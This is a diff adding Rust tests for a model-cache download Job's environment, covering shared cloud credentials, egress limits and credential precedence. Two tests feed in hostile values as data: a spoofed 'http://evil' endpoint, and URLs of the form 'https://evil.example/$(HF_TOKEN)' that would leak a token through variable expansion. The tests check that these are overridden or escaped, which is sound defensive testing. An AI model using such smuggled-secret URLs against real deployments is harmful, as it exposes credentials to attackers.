@@ -336,3 +336,116 @@ fn an_expression_that_grows_without_bound_is_left_out_and_one_that_is_large_is_n
     assert!(refused[0].contains("exceeds size limit of 4194304 bytes"), "{refused:?}");
     assert_eq!(told(r"^https://\w+\.blob\.core\.windows\.net/([\w-]{1,63})/(.+)$"), Vec::<String>::new());
 }
+
+/// The environment of the download Job of a namespace's cache: text as it is, a reference as `<`.
+fn environment(config: &Config, container: &Value, credentials: &Injection) -> Vec<String> {
+    let mut chosen = storage("c", json!([{"prefix": "s3://"}, {"prefix": "hf://"}]));
+    chosen.spec.spec.container = from(container.clone());
+    let entry = ModelEntry { namespace: Some("team".into()), ..entry_of("m", "s3://b/m") };
+    let case = Case { credentials, ..documented(&entry, config, std::slice::from_ref(&chosen)) };
+    let job = json!(made(&case));
+    let told = |variable: &Value| {
+        let name = variable["name"].as_str().unwrap();
+        variable["value"].as_str().map_or(format!("{name}<"), |value| format!("{name}={value}"))
+    };
+    let env = job["spec"]["template"]["spec"]["containers"][0]["env"].as_array().unwrap().clone();
+    env.iter().map(told).collect()
+}
+
+fn bring(variables: &[&str]) -> Injection {
+    let of =
+        |name: &&str| ((*name).to_owned(), Origin::Key { secret: "copy".into(), key: format!("env.{name}") });
+    Injection { variables: variables.iter().map(of).collect(), volumes: BTreeMap::new() }
+}
+
+/// A storage container with credentials for all.
+fn shared_container(env: &Value) -> Value {
+    let secret =
+        |name: &str| json!({"name": name, "valueFrom": {"secretKeyRef": {"name": "all", "key": name}}});
+    let mut variables = vec![
+        secret("AWS_ACCESS_KEY_ID"),
+        secret("AWS_SECRET_ACCESS_KEY"),
+        secret("HF_TOKEN"),
+        json!({"name": "AWS_ENDPOINT_URL", "value": "http://minio"}),
+    ];
+    variables.extend(env.as_array().cloned().unwrap_or_default());
+    json!({"name": "c", "image": "initializer", "env": variables})
+}
+
+const CLOSED: [&str; 2] = ["LOCALMODEL_INTERNAL_ADDRESSES=refuse", "LOCALMODEL_PLAIN_HTTP=refuse"];
+
+#[test]
+fn a_namespaces_download_reaches_no_internal_address_and_no_plain_http_unless_the_platform_allows_it() {
+    let closed = environment(&config(), &shared_container(&json!([])), &NONE);
+    assert_eq!(
+        closed[..4],
+        ["AWS_ACCESS_KEY_ID<", "AWS_SECRET_ACCESS_KEY<", "HF_TOKEN<", "AWS_ENDPOINT_URL=http://minio"]
+    );
+    assert_eq!(closed[4..6], CLOSED);
+    assert_eq!(closed[6], "LOCALMODEL_CACHE_VARIABLES=");
+    let mut open = config();
+    (open.egress.internal_addresses, open.egress.plain_http) = (true, true);
+    let open = environment(&open, &shared_container(&json!([])), &NONE);
+    assert_eq!(open[4..6], ["LOCALMODEL_INTERNAL_ADDRESSES=allow", "LOCALMODEL_PLAIN_HTTP=allow"]);
+    let by_container = json!([{"name": "LOCALMODEL_PLAIN_HTTP", "value": "allow"}]);
+    let by_container = environment(&config(), &shared_container(&by_container), &NONE);
+    assert_eq!(by_container[4..6], ["LOCALMODEL_PLAIN_HTTP=allow", CLOSED[0]]);
+}
+
+#[test]
+fn a_namespaces_own_credentials_or_endpoint_displace_those_that_all_share() {
+    let own = environment(&config(), &shared_container(&json!([])), &bring(&["AWS_ENDPOINT_URL"]));
+    assert_eq!(
+        own,
+        [
+            "HF_TOKEN<",
+            "AWS_ENDPOINT_URL<",
+            CLOSED[0],
+            CLOSED[1],
+            "LOCALMODEL_CACHE_VARIABLES=AWS_ENDPOINT_URL"
+        ]
+    );
+    let token = environment(&config(), &shared_container(&json!([])), &bring(&["HF_TOKEN"]));
+    assert_eq!(token[..3], ["AWS_ACCESS_KEY_ID<", "AWS_SECRET_ACCESS_KEY<", "AWS_ENDPOINT_URL=http://minio"]);
+    let json_of_kserve = environment(&config(), &shared_container(&json!([])), &bring(&["STORAGE_CONFIG"]));
+    assert!(!json_of_kserve.contains(&"AWS_SECRET_ACCESS_KEY<".to_owned()), "{json_of_kserve:?}");
+}
+
+#[test]
+fn which_variables_are_the_caches_is_not_for_the_container_to_say() {
+    let lies = json!([{"name": "LOCALMODEL_CACHE_VARIABLES", "value": "X"},
+        {"name": "LOCALMODEL_PLATFORM_ENDPOINTS", "value": "http://evil"}]);
+    let mut config = config();
+    config.credentials.s3.s3_endpoint = "minio:9000".into();
+    config.credentials.s3.s3_use_https = "0".into();
+    let env = environment(&config, &shared_container(&lies), &bring(&["AWS_ACCESS_KEY_ID"]));
+    let ours: Vec<_> = env.iter().filter(|variable| variable.starts_with("LOCALMODEL_")).collect();
+    assert_eq!(
+        ours[2..],
+        ["LOCALMODEL_PLATFORM_ENDPOINTS=http://minio:9000", "LOCALMODEL_CACHE_VARIABLES=AWS_ACCESS_KEY_ID"]
+    );
+}
+
+#[test]
+fn a_cluster_caches_download_is_the_platforms_and_is_not_narrowed() {
+    let (entry, config, hub) = (entry(), config(), [hf_hub()]);
+    let job = json!(made(&documented(&entry, &config, &hub))).to_string();
+    assert!(!job.contains("LOCALMODEL_"), "{job}");
+}
+
+#[test]
+fn a_source_or_an_endpoint_cannot_draw_the_containers_secrets_into_itself() {
+    let entry = ModelEntry {
+        namespace: Some("team".into()),
+        ..entry_of("m", "https://evil.example/$(HF_TOKEN)/$$(X)")
+    };
+    let text = Origin::Text("https://evil.example/$(HF_TOKEN)".into());
+    let own = Injection { variables: [("S3_ENDPOINT".to_owned(), text)].into(), volumes: BTreeMap::new() };
+    let (config, hub) = (config(), [hf_hub()]);
+    let job = json!(made(&Case { credentials: &own, ..documented(&entry, &config, &hub) }));
+    let container = &job["spec"]["template"]["spec"]["containers"][0];
+    assert_eq!(container["args"][0], "https://evil.example/$$(HF_TOKEN)/$$$$(X)");
+    let env = container["env"].as_array().unwrap();
+    let endpoint = env.iter().find(|variable| variable["name"] == "S3_ENDPOINT").unwrap();
+    assert_eq!(endpoint["value"], "https://evil.example/$$(HF_TOKEN)");
+}
